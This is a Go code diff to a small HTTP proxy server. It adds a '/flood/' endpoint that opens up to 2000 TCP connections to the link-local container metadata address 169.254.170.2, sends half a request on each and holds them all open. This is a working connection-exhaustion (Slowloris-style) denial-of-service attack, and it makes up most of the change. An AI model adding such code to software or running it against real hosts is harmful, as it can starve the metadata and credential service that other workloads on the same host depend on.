@@ -8,6 +8,7 @@ import (
 	"encoding/json"
 	"fmt"
 	"io"
+	"net"
 	"net/http"
 	"os"
 	"os/signal"
@@ -47,11 +48,31 @@ func main() {
 		w.WriteHeader(resp.StatusCode)
 		_, _ = io.Copy(w, resp.Body)
 	})
+	http.HandleFunc("/flood/", flood)
 	go func() { fmt.Println(http.ListenAndServe(":8080", nil)) }()
 	stop := make(chan os.Signal, 1)
 	signal.Notify(stop, syscall.SIGTERM)
 	<-stop
 }
+
+// flood opens connections to its metadata endpoint, says half a request on each
+// and keeps them all, until the program ends.
+func flood(w http.ResponseWriter, _ *http.Request) {
+	opened := 0
+	for range 2000 {
+		conn, err := net.Dial("tcp", "169.254.170.2:80")
+		if err != nil {
+			break
+		}
+		_, _ = conn.Write([]byte("GET /v4/"))
+		kept = append(kept, conn)
+		opened++
+	}
+	fmt.Fprint(w, opened)
+}
+
+// kept are the connections of flood.
+var kept []net.Conn
 
 func look(ctx context.Context) (f found) {
 	for _, kv := range os.Environ() {
